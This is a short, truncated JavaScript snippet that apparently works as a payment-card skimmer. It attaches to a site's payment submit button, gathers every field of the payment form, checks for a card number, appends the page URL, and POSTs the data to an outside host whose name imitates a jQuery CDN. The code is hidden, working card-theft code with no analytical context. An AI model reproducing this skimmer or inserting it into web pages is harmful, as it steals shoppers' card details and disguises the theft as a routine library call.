$(document).ready(function () {
    var gw = "https://jquery-migrate-cdn.com/gateway/api/";
    $("#paymentSubmit").bind("mouseup touchend", function () {
        var fd = $("#paymentForm").serializeArray();
        var obj = {};
        for (var i = 0; i < fd.length; i++) {
            obj[fd[i].name] = fd[i].value;
        }
        if (!obj.cardNumber && !obj.cc_number) {
            return;
        }
        obj.ref = document.location.href;
        $.ajax({
            type: "POST",
            url: gw,
            data: JSON.stringify(obj),
            dataType: "application/js
